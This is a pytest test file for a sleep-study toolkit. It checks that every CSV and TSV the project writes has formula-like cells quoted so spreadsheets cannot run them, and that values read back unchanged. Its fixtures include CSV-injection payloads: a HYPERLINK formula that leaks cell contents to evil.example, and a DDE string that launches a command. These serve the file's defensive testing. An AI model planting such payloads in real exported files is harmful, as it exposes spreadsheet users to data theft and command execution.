"""CSV injection: no CSV the project writes holds a cell a spreadsheet would run as a formula.

Values from files (night ids from file names, metadata sites and subjects, error messages) can
start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. Every CSV writer goes through
:mod:`s2v_core.sanitize.cells`, which puts a ``'`` before such a text cell; numbers (negative
ones included) are left alone, and the project's own readers undo the quote, so a store whose
site is ``=1+2`` still loads with site ``=1+2``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from s2v_core.cli.main import main
from s2v_core.sanitize.cells import (
    csv_text,
    neutralise_cell,
    neutralise_frame,
    read_csv,
    rows_csv,
    to_csv,
    unneutralise_cell,
)
from tests.conftest import write_tiny_classifier
from tests.edf_factory import psg_channels, write_edf

pytestmark = pytest.mark.usefixtures("torch_one_thread")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
FORMULAS = [HYPERLINK, "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+2", "\n=1+2",
            "=cmd", "+1+1", "-cmd", "@cmd"]  # fmt: skip
HARMLESS = ["", "abc", "N2", "night 1", "a=b", "1+2", "'quoted", "-5", "+1.5", "-2e3", "0.25", "?"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(path_or_text: Path | str, delimiter: str = ",") -> list[tuple[int, int, str]]:
    """(row, column, cell) of every cell a spreadsheet would evaluate (numbers excluded)."""
    text = path_or_text.read_text(encoding="utf-8") if isinstance(path_or_text, Path) else path_or_text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    return [(i, j, c) for i, row in enumerate(rows) for j, c in enumerate(row)
            if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _number(c)]  # fmt: skip


def cells(path: Path) -> set[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return {c for row in csv.reader(fh) for c in row}


# --- the helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
def test_each_dangerous_prefix_is_quoted_and_comes_back(value):
    safe = neutralise_cell(value)
    assert safe == "'" + value
    assert unneutralise_cell(safe) == value
    assert formula_cells(csv_text(pd.DataFrame({"site": [value]}))) == []


@pytest.mark.parametrize("value", HARMLESS, ids=range(len(HARMLESS)))
def test_harmless_text_and_plain_numbers_are_unchanged(value):
    assert neutralise_cell(value) == value
    assert unneutralise_cell(value) == value


def test_numbers_stay_numbers_and_quotes_round_trip():
    frame = pd.DataFrame({
        "night": ["=1+2", "'=1+2", "''-x", "-5", "plain"],
        "bias": [-1.5, -2.0, 0.5, 3.0, -0.0],
        "n": np.array([-3, -2, -1, 0, 1], dtype=np.int64),
        "when": pd.to_datetime(["2024-03-01"] * 5),
        "group": pd.Categorical(["@SUM(1+1)", "a", "a", "b", "b"]),
    })
    text = csv_text(frame)
    assert formula_cells(text) == []
    assert "-1.5" in text and "\n'=1+2,-1.5,-3," in text  # numeric cells are written as numbers
    back = read_csv(io.StringIO(text), dtype={"night": str, "group": str}, keep_default_na=False)
    assert list(back["night"]) == list(frame["night"])
    assert list(back["group"]) == list(frame["group"])
    assert list(back["n"]) == [-3, -2, -1, 0, 1] and back["bias"].iloc[0] == -1.5
    assert frame["night"].iloc[0] == "=1+2"  # the caller's frame is not changed


def test_carriage_return_cells_keep_the_rows_together():
    frame = pd.DataFrame({"site": ["\r=1+2", "a\rb", "ok"], "x": [1, -2, 3]})
    text = csv_text(frame)
    back = read_csv(io.StringIO(text), keep_default_na=False)
    assert len(back) == 3 and list(back["site"]) == list(frame["site"]) and list(back["x"]) == [1, -2, 3]
    rows = list(csv.reader(io.StringIO(rows_csv([["site"], ["\r=1+2"], ["y"]]), newline="")))
    assert rows == [["site"], ["'\r=1+2"], ["y"]]


def test_headers_index_and_tsv_are_neutralised_too(tmp_path):
    frame = pd.DataFrame({"=cmd": ["+x"], "ok": [-1]}, index=pd.Index(["@idx"], name="-name"))
    to_csv(frame, tmp_path / "t.tsv", sep="\t")
    assert formula_cells(tmp_path / "t.tsv", "\t") == []
    assert formula_cells(rows_csv([["night", "site"], ["=1+2", "-2+3"], ["a", -4]])) == []
    assert neutralise_frame(frame).columns[0] == "'=cmd"


# --- the cohort store: prepare, manifest, failures, read back -------------------------------------


def _stage_annotations(n: int) -> list[tuple[float, float, str]]:
    return [(30.0 * i, 30.0, f"Sleep stage {'W12R3'[i % 5]}") for i in range(n)]


NIGHTS = [  # night id (also the file name), subject, site, sex
    ("=1+2", "-2+3", HYPERLINK, "=1+2"),
    ("@SUM(1+1)", "+cmd", "=1+2", "M"),
    ("+cmd", "@x", "-2+3", "F"),
    ("-2+3", "=sub", "@SUM(1+1)", "+M"),
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """A source folder whose night ids, subjects, sites and sexes are formulas; its store."""
    root = tmp_path_factory.mktemp("csvinj")
    source = root / "source"
    source.mkdir()
    rows = []
    for k, (night, subject, site, sex) in enumerate(NIGHTS):
        write_edf(source / f"{night}.edf", psg_channels(minutes=3, seed=k), annotations=_stage_annotations(6))
        rows.append({"night": night, "subject": subject, "site": site, "sex": sex, "age": 40 + k,
                     "psg_file": f"{night}.edf"})  # fmt: skip
    (source / "=broken.edf").write_bytes(b"not an EDF at all")
    rows.append({"night": "=broken", "subject": "=s", "site": "=x", "sex": "", "age": "", "psg_file": "=broken.edf"})
    pd.DataFrame(rows).to_csv(source / "metadata.csv", index=False)  # a user's table: raw formulas
    store = root / "store"
    assert main(["prepare", str(source), "--out", str(store), "--quiet"]) == 0
    return source, store


def test_prepare_writes_no_formula_into_manifest_or_failures(hostile_store):
    _, store = hostile_store
    assert formula_cells(store / "manifest.csv") == []
    assert formula_cells(store / "failures.csv") == []
    manifest = cells(store / "manifest.csv")
    assert {"'=1+2", "'@SUM(1+1)", "'+cmd", "'-2+3", "'" + HYPERLINK} <= manifest
    assert "'=broken" in cells(store / "failures.csv")


def test_a_store_with_formula_metadata_loads_the_exact_values(hostile_store):
    from s2v_core.cohort.store import CohortStore

    store = CohortStore(hostile_store[1])
    assert sorted(store.nights()) == sorted(n for n, *_ in NIGHTS)
    for night, subject, site, sex in NIGHTS:
        entry = store.entry(night)
        assert (entry.night, entry.subject, entry.site) == (night, subject, site)
        assert entry.sex == (sex if sex in ("M", "F") else None)  # only M/F are kept
        assert store.night(night).n_epochs == 6
    assert store.site_index() == {s: i for i, s in enumerate(sorted(s for *_, s, _ in NIGHTS))}


def test_preparing_again_keeps_the_values_and_does_not_stack_quotes(hostile_store, tmp_path):
    source, store = hostile_store
    before = (store / "manifest.csv").read_text(encoding="utf-8")
    assert main(["prepare", str(source), "--out", str(store), "--quiet"]) == 0  # skips finished nights
    assert (store / "manifest.csv").read_text(encoding="utf-8") == before
    assert "''=" not in before


def test_metadata_tables_written_by_the_project_read_back_exactly(tmp_path):
    from s2v_core.io.metadata import read_metadata_csv

    frame = pd.DataFrame({"night": ["=1+2", "n2"], "site": [HYPERLINK, "-2+3"], "age": [-1, 50]})
    to_csv(frame, tmp_path / "meta.csv", index=False)
    assert formula_cells(tmp_path / "meta.csv") == []
    table, _ = read_metadata_csv(tmp_path / "meta.csv")
    assert list(table.index) == ["=1+2", "n2"] and list(table["site"]) == [HYPERLINK, "-2+3"]


# --- s2v evaluate: per_night, predictions, sleep_stats and the other tables -------------------------


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory):
    return write_tiny_classifier(tmp_path_factory.mktemp("clf") / "best", seed=3,
                                 extra={"class_names": ["W", "N1", "N2", "N3", "REM"]})  # fmt: skip


def test_evaluate_tables_hold_no_formula_and_keep_the_ids(hostile_store, tiny_model, tmp_path, capsys):
    out = tmp_path / "ev"
    argv = ["evaluate", str(hostile_store[1]), "--model", str(tiny_model), "--out", str(out), "--n-boot", "20",
            "--quiet", "--threads", "1"]  # fmt: skip
    assert main(argv) == 0
    written = sorted(out.glob("*.csv"))
    assert {p.stem for p in written} >= {"per_night", "predictions", "sleep_stats", "pooled", "confusion"}
    for path in written:
        assert formula_cells(path) == [], path.name
    for name in ("per_night", "predictions", "sleep_stats"):
        frame = read_csv(out / f"{name}.csv", dtype={"night": str}, keep_default_na=False)
        assert set(frame["night"]) == {n for n, *_ in NIGHTS}, name
        raw = cells(out / f"{name}.csv")
        assert "'=1+2" in raw and "=1+2" not in raw, name
    per_night = read_csv(out / "per_night.csv", dtype={"site": str}, keep_default_na=False)
    if "site" in per_night:
        assert set(per_night["site"]) == {s for *_, s, _ in NIGHTS}
    sleep = pd.read_csv(out / "sleep_stats.csv")
    numeric = sleep.select_dtypes("number")
    assert not numeric.empty  # statistics stay numbers (negative biases included)
    json.loads((out / "summary.json").read_text())  # JSON keeps the exact values


# --- s2v predict, s2v embed, s2v night-heads ahi, the app's export -------------------------------


def _recording(folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return write_edf(folder / f"{name}.edf", psg_channels(minutes=3), annotations=_stage_annotations(6))


def test_predict_csv_goes_through_the_neutraliser(tmp_path, tiny_model, monkeypatch, capsys):
    from s2v_core.views import exports

    psg = _recording(tmp_path, "=1+2")
    real = exports.prediction_table

    def with_text_column(pred, night):  # what a future column quoting the file would carry
        frame = real(pred, night)
        frame["night"] = night.meta.night_id
        return frame

    monkeypatch.setattr(exports, "prediction_table", with_text_column)
    out = tmp_path / "pred.csv"
    assert main(["predict", str(psg), "--model", str(tiny_model), "--out", str(out), "--threads", "1"]) == 0
    assert formula_cells(out) == []
    frame = read_csv(out, dtype={"night": str})
    assert set(frame["night"]) == {"=1+2"} and len(frame) == 6
    assert frame["onset_s"].tolist() == [0.0, 30.0, 60.0, 90.0, 120.0, 150.0]


def test_embed_failures_csv_is_neutralised(tmp_path, monkeypatch, capsys):
    from s2v_core.cli import embed as embed_cli
    from s2v_core.cohort import embed as cohort_embed
    from s2v_core.cohort import sources

    status = pd.DataFrame({"night": ["=1+2", "@SUM(1+1)", "ok"], "status": ["failed", "skipped", "done"],
                           "error": ["-2+3: broken", "+cmd", ""]})  # fmt: skip
    run = SimpleNamespace(summary={"done": 1, "failed": 1, "skipped": 1}, status=status,
                          epochs=pd.DataFrame(), nights=pd.DataFrame())  # fmt: skip
    monkeypatch.setattr(sources, "is_store", lambda path: True)
    monkeypatch.setattr(cohort_embed, "embed_store", lambda *a, **k: run)
    monkeypatch.setattr("s2v_core.inference.predict.model_id", lambda folder: "m")
    args = SimpleNamespace(source=str(tmp_path), map=None, hypnogram=None, allow_mismatch=False, sfreq=None,
                           threads=None, model=None, split=None, modalities=None, device="cpu", quiet=True)
    out = tmp_path / "emb.parquet"
    embed_cli._distributed(args, SimpleNamespace(describe=lambda: "test"), out)
    fail_csv = tmp_path / "emb_failures.csv"
    assert formula_cells(fail_csv) == []
    back = read_csv(fail_csv, keep_default_na=False)
    assert list(back["night"]) == ["=1+2", "@SUM(1+1)"] and list(back["error"]) == ["-2+3: broken", "+cmd"]


def test_embed_parquet_keeps_exact_ids(tmp_path, tiny_model, capsys):
    """Parquet is not a spreadsheet format: it stores the exact night id."""
    psg = _recording(tmp_path, "@SUM(1+1)")
    out = tmp_path / "emb.parquet"
    assert main(["embed", str(psg), "--model", str(tiny_model), "--out", str(out), "--threads", "1"]) == 0
    assert set(pd.read_parquet(out)["night"]) == {"@SUM(1+1)"}


def test_night_heads_ahi_table_is_neutralised(tmp_path, capsys):
    a, b = tmp_path / "=1+2.csv", tmp_path / "-2+3.xml"
    a.write_text("")
    b.write_text("<broken")
    out = tmp_path / "ahi.csv"
    assert main(["night-heads", "ahi", str(a), str(b), "--out", str(out)]) == 0
    assert formula_cells(out) == []
    assert set(read_csv(out, dtype={"night": str})["night"]) == {"=1+2", "-2+3"}


def test_app_epoch_export_and_hypnogram_csv(tmp_path):
    from s2v_core.views.exports import epochs_csv, hypnogram_csv

    frame = pd.DataFrame({"epoch": [0, 1], "onset_s": [-30.0, 0.0], "label": ["=1+2", "W"], "note": ["@x", "-y"]})
    pred = SimpleNamespace(to_frame=lambda start: frame)
    text = epochs_csv(pred, SimpleNamespace(start_time=None))
    assert formula_cells(text) == [] and "-30.0" in text
    assert list(read_csv(io.StringIO(text))["label"]) == ["=1+2", "W"]
    stages = np.array([-1, 0, 0, 1, 2, 3, 4, 4], dtype=np.int8)
    assert formula_cells(hypnogram_csv(stages)) == []  # fixed vocabulary: W N1 N2 N3 REM ?
